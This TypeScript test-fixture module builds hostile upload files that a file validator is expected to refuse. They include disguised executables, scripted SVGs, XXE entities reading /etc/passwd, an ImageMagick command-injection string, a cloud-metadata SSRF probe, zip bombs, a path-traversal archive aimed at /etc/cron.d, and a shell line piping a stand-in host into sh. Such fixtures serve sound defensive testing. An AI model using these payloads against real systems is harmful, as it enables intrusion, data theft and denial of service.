import { Buffer } from 'node:buffer';
import { gzipSync } from 'node:zlib';
import type { HostileFile } from './hostile-file.ts';
import { EICAR, HTML, SCRIPTED_SVG, zipOf } from './payloads.ts';

/** Beginnings of things that are neither a picture nor a document, whatever they are called. */
const BEGINNINGS: Readonly<Record<string, Buffer>> = {
  elf: Buffer.from('7f454c46020101000000000000000000', 'hex'),
  windows: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(120), Buffer.from('PE\0\0')]),
  java: Buffer.from('cafebabe0000003d', 'hex'),
  wasm: Buffer.from('0061736d01000000', 'hex'),
  shell: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
  script: Buffer.from('alert(1)'),
  html: HTML,
  xml: Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
  office: zipOf('word/document.xml', Buffer.from('<w:document/>')),
  ole: Buffer.from('d0cf11e0a1b11ae1000000000000', 'hex'),
  mp4: Buffer.from('00000018667479706d703432000000006d70343269736f6d', 'hex'),
  avif: Buffer.from('0000001c6674797061766966000000006d696631617669660000', 'hex'),
  tiff: Buffer.from('49492a0008000000', 'hex'),
  bmp: Buffer.from('424d3a000000000000003600000028000000', 'hex'),
  ico: Buffer.from('00000100010010100000', 'hex'),
  psd: Buffer.from('384250530001000000000000', 'hex'),
  postscript: Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
  magick: Buffer.from('push graphic-context\nfill \'url(https://evil.example/"|id")\''),
  rtf: Buffer.from('{\\rtf1\\ansi{\\object\\objdata 0105}}'),
  gif: Buffer.from(
    'GIF89a/*\u0001\0\u0001\0\0\0\0,\0\0\0\0\u0001\0\u0001\0\0\u0002\u0002L\u0001\0;*/=1;alert(1)',
    'latin1',
  ),
  nothing: Buffer.alloc(0),
  zeros: Buffer.alloc(4096),
  one: Buffer.from([0xff]),
  swf: Buffer.from('46575309', 'hex'),
};

const ENDINGS = ['jpg', 'png', 'pdf', 'heic', 'jpg.exe'];

/** Programs, pages and scripts under names of pictures and documents. */
export function disguisedFiles(): HostileFile[] {
  return Object.entries(BEGINNINGS).flatMap(([what, bytes]) =>
    ENDINGS.slice(0, what === 'nothing' ? 1 : 3).map((ending) => ({
      name: `${what}.${ending}`,
      bytes: Buffer.from(bytes),
      must: 'be refused' as const,
    })),
  );
}

/** Drawings that act. */
export function scriptedDrawings(): HostileFile[] {
  const text = SCRIPTED_SVG.toString();
  const drawings = [
    text,
    `<?xml version="1.0"?>${text}`,
    `\u{feff}${text}`,
    `<!-- ${'x'.repeat(5000)} -->${text}`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"><rect width="1e9" height="1e9"/></svg>',
  ];
  return drawings.flatMap((drawing, index) => [
    { name: `${index}.svg`, bytes: Buffer.from(drawing), must: 'be refused' as const },
    { name: `${index}-wide.png`, bytes: Buffer.from(`\u{feff}${drawing}`, 'utf16le'), must: 'be refused' as const },
    { name: `${index}.svgz`, bytes: gzipSync(drawing), must: 'be refused' as const },
  ]);
}

/** Archives, archives that unfold, and the test virus in all of them. */
export function archives(): HostileFile[] {
  const zeros = Buffer.alloc(40 * 1024 * 1024);
  const bomb = zipOf('zeros', zeros, true);
  const files: Record<string, Buffer> = {
    'eicar.com': EICAR,
    'eicar-in-words.txt': Buffer.concat([Buffer.from('see: '), EICAR, Buffer.from('\n')]),
    'eicar-base64.txt': Buffer.from(EICAR.toString('base64')),
    'eicar.zip': zipOf('eicar.com', EICAR),
    'eicar-deflated.zip': zipOf('eicar.com', EICAR, true),
    'eicar.gz': gzipSync(EICAR),
    'bomb.zip': bomb,
    'bomb-in-bomb.zip': zipOf('bomb.zip', bomb, true),
    'bomb.gz': gzipSync(zeros),
    'traversal.zip': zipOf('../../../../etc/cron.d/evil', Buffer.from('* * * * * root evil')),
    'seven.7z': Buffer.from('377abcaf271c0004', 'hex'),
    'rar.rar': Buffer.from('526172211a070100', 'hex'),
    'old.rar': Buffer.from('526172211a0700', 'hex'),
    'x.xz': Buffer.from('fd377a585a000004', 'hex'),
    'b.bz2': Buffer.from('425a683931415926', 'hex'),
    'z.zst': Buffer.from('28b52ffd2000', 'hex'),
    'c.cab': Buffer.from('4d53434600000000', 'hex'),
    'l.lz': Buffer.from('4c5a49500100', 'hex'),
    'a.ar': Buffer.from('!<arch>\ndebian-binary'),
    'evil.apk': zipOf('classes.dex', Buffer.from('dex\n035')),
    'evil.docm': zipOf('[Content_Types].xml', Buffer.from('<Types/>')),
  };
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes, must: 'be refused' }));
}
